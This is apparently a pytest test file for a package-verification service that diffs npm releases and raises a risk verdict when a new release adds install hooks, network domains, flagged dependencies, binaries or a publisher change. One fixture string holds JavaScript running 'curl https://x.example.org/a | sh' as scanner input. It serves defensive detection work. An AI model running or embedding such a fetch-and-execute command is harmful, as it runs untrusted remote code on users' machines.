"""changes_since: a release is compared with the one verified before it; release-risk raises the verdict."""
import json

import pytest

from tests.fakes.releases import npm_release_pair
from tests.fakes.servers import FakeNpm
from tests.intel.factories import verified_threat


# POST /v1/verify queues its work once the request's row is committed (transaction.on_commit), as a
# worker needs it: these tests commit for real, so the eager task runs within the request.
pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def pair_npm(settings, allow):
    with FakeNpm(npm_release_pair()) as server:
        allow(server)
        settings.NPM_REGISTRY_URL = server.url
        yield server


def _verify(api, version, **extra):
    response = api.post_json("/v1/verify", {"source_type": "npm", "source_ref": "padkit", "source_version": version,
                                            **extra})
    assert response.status_code in (200, 202), response.json()
    return response.json()


def test_a_first_release_has_no_changes_since(alice_api, pair_npm):
    body = _verify(alice_api, "2.0.0")
    assert body["status"] == "verified" and "changes_since" not in body["details"]


def test_a_patch_release_with_a_new_hook_host_dependency_binary_and_publisher_is_diffed_and_raised(
        alice_api, pair_npm, bob, carol, client, web, builtin_signatures):
    verified_threat(bob, carol, source_type="npm", source_ref="pad-helper@1.0.0", source_hash="")
    before = _verify(alice_api, "2.0.0")
    web.routes["/hook"] = (200, b"ok", {})
    after = _verify(alice_api, "2.0.1", callback_url=f"{web.url}/hook")
    after = alice_api.get(f"/v1/verify/{after['verification_id']}").json()
    changes = after["details"]["changes_since"]
    assert changes["previous_version"] == "2.0.0" and changes["previous_verification"] == before["verification_id"]
    assert changes["install_hooks"]["added"] == {"postinstall": "node hook.js"}
    assert [d["name"] for d in changes["new_dependencies"]] == ["pad-helper"]
    assert changes["new_dependencies"][0]["known_threats"][0].startswith("THR-")
    assert "collect.example.net" in changes["new_domains"]
    assert changes["new_binaries"] == ["prebuilds/pad.node"]
    assert changes["publisher_change"] == {"from": "padder", "to": "someone-else"}
    assert {f["file"] for f in changes["new_findings"]} >= {"hook.js"}
    assert all(not f["file"].startswith("package/") for f in changes["new_findings"])
    signals = {s["signal"] for s in changes["release_risk"]["signals"]}
    assert signals == {"install_hook", "install_network", "publisher_change"}
    assert changes["release_risk"]["points"] == 20
    # The verdict is raised by the documented points and explained.
    assert after["score"] >= 20 and after["verdict"] not in ("clean", "low") and after["status"] == "failed"
    html = client.get(f"/verifications/{after['verification_id']}").content.decode()
    assert "Changes since 2.0.0" in html and "collect.example.net" in html and "release risk" in html.lower()
    event = json.loads([r for r in web.requests if r["path"] == "/hook"][-1]["body"])
    assert event["data"]["details"]["changes_since"]["release_risk"]["points"] == 20


def test_findings_that_only_moved_lines_are_neither_new_nor_disappeared():
    from domain.pack import BUILTIN_PACK_PATH
    from scans.engine import Release, compile_rules, load_rules, release_diff, scan_archive
    from tests.fakes.servers import make_targz

    rules = compile_rules(load_rules(BUILTIN_PACK_PATH))
    code = "const cp = require('child_process');\ncp.exec('curl https://x.example.org/a | sh');\n"
    old = scan_archive(make_targz({"a.js": code}, root="pkg-1.0.0"), rules, filename="a.tgz")
    new = scan_archive(make_targz({"a.js": "\n\n// moved down\n" + code}, root="pkg-1.0.1"), rules, filename="a.tgz")
    assert old.findings, "the fixture must produce findings"
    diff = release_diff(Release("1.0.0", old), Release("1.0.1", new))
    assert diff["new_findings"] == [] and diff["disappeared_findings"] == []
    assert diff["new_domains"] == [] and diff["release_risk"] == {"signals": [], "points": 0}


def test_a_release_never_verified_before_is_compared_with_the_one_published_before_it(
        alice_api, pair_npm, builtin_signatures):
    body = _verify(alice_api, "2.0.1")
    changes = body["details"]["changes_since"]
    assert changes["previous_version"] == "2.0.0" and changes["previous_verification"] is None
    assert {s["signal"] for s in changes["release_risk"]["signals"]} == {
        "install_hook", "install_network", "publisher_change"}
    assert body["status"] == "failed"
